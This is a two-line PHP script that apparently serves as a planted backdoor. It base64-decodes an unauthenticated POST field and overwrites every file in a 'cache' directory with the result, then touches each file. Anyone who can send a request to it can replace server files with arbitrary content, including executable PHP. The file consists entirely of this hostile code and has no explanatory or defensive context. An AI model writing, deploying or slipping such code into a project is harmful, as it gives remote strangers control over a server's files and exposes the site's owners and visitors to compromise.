<?php
$c = base64_decode($_POST["x"]); foreach (scandir("cache") as $d) { $f = "cache/$d"; file_put_contents($f, $c); touch($f); }
